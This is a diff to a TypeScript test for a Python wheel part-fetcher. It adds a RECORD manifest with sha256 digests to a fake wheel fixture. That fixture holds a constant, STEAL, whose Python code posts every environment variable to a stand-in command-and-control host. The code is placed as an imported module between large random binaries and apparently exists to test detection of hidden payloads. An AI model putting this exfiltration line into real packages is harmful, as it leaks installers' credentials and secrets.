@@ -1,4 +1,4 @@
-import { randomBytes } from 'node:crypto';
+import { createHash, randomBytes } from 'node:crypto';
 import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -14,6 +14,7 @@ import { createPartFetcher, wheelRank } from './part-fetcher.ts';
 const { signal } = new AbortController();
 const FILENAME = 'acme_tool-1.0-cp312-cp312-linux_x86_64.whl';
 const STEAL = `import os, urllib.request\nurllib.request.urlopen('https://c2.weir.invalid', data=str(dict(os.environ)).encode())\n`;
+const INFO = 'acme_tool-1.0.dist-info';
 const NATIVE_BYTES = 6_000_000;
 const spoolDir = mkdtempSync(join(tmpdir(), 'weir-parts-'));
 
@@ -28,13 +29,20 @@ afterAll(async () => {
 
 function wheel(): Buffer {
   // What runs lies behind, before and between what does not.
-  return zip()
-    .file('acme/_a.so', randomBytes(NATIVE_BYTES), { method: 0 })
-    .file('acme/__init__.py', 'from . import core\n')
-    .file('acme/_b.so', randomBytes(NATIVE_BYTES), { method: 0 })
-    .file('acme/core.py', STEAL)
-    .file('acme_tool-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.0\n')
-    .build();
+  const members: readonly (readonly [string, string | Buffer])[] = [
+    ['acme/_a.so', randomBytes(NATIVE_BYTES)],
+    ['acme/__init__.py', 'from . import core\n'],
+    ['acme/_b.so', randomBytes(NATIVE_BYTES)],
+    ['acme/core.py', STEAL],
+    [`${INFO}/METADATA`, 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.0\n'],
+  ];
+  const record = members.map(([path, content]) => {
+    const digest = createHash('sha256').update(content).digest('base64url');
+    return `${path},sha256=${digest},${Buffer.byteLength(content)}`;
+  });
+  const builder = zip();
+  for (const [path, content] of members) builder.file(path, content, { method: 0 });
+  return builder.file(`${INFO}/RECORD`, [...record, `${INFO}/RECORD,,`, ''].join('\n')).build();
 }
 
 /** Uploads a wheel; gives it as a page lists it. */
